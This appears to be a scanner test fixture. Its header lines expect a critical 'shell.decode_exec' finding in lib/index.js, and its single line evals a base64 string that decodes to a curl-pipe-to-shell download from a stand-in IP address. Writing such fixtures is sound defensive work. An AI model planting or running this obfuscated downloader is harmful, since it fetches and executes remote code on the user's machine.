# expect: shell.decode_exec critical
# path: lib/index.js
eval(Buffer.from("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo", "base64").toString());
